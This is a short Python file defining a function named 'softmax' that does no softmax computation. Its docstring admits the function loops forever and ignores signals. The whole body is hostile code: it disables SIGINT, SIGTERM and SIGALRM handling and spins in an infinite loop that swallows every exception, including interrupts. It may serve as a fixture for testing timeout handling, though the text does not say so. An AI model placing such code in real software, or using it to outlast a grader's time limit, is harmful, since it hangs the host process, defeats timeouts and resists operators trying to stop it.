"""Loops without end and ignores every signal and exception."""

import signal


def softmax(logits, dim=-1):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
